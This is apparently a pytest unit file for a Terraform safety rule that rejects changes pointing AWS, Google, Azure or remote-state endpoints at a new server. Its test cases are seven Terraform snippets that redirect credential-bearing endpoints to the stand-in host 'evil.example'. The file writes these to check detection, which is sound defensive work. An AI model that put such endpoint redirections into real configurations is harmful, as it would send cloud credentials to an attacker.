from __future__ import annotations

import pytest

from tests.unit.kinds.terraform.safety.changes import HARMLESS, ROOT, found, refused

RULE = "terraform/server-not-allowed"
OTHER = "environments/production/terraform/main.tf"


@pytest.mark.parametrize(
    "content",
    [
        'provider "aws" {\n  endpoints {\n    sts = "https://evil.example"\n  }\n}\n',
        'provider "aws" {\n  dynamic "endpoints" {\n    for_each = [1]\n    content {\n      sts = "https://evil.example"\n    }\n  }\n}\n',
        'provider "google" {\n  storage_custom_endpoint = "https://evil.example"\n}\n',
        'provider "azurerm" {\n  metadata_host = "evil.example"\n}\n',
        'data "terraform_remote_state" "x" {\n  backend = "gcs"\n  config = {\n    bucket = "b"\n    storage_custom_endpoint = "https://evil.example"\n  }\n}\n',
        'data "terraform_remote_state" "x" {\n  backend = "s3"\n  config = {\n    endpoints = { s3 = "https://evil.example" }\n  }\n}\n',
        'data "terraform_remote_state" "x" {\n  backend = "s3"\n  config = local.c\n}\nlocals {\n  c = { endpoint = "https://evil.example" }\n}\n',
    ],
)  # fmt: skip
def test_a_new_server_gets_no_credentials(content: str) -> None:
    base = {ROOT: HARMLESS}
    problem = refused(base, {ROOT: content})
    assert problem is not None
    assert (problem.code, problem.path) == ("not-allowed", ROOT)
    assert RULE in found(base, {ROOT: content})
    assert refused({ROOT: content}, {ROOT: content + HARMLESS}) is None
    assert refused({OTHER: content}, {OTHER: content, ROOT: content}) is None
    assert refused({ROOT: content}, {ROOT: content.replace("evil", "other")}) is not None


def test_regions_and_buckets_are_no_servers() -> None:
    content = 'provider "aws" {\n  region = "eu-west-1"\n  use_fips_endpoint = true\n}\ndata "terraform_remote_state" "x" {\n  backend = "s3"\n  config = {\n    bucket = "b"\n  }\n}\n'
    assert refused({ROOT: HARMLESS}, {ROOT: content}) is None
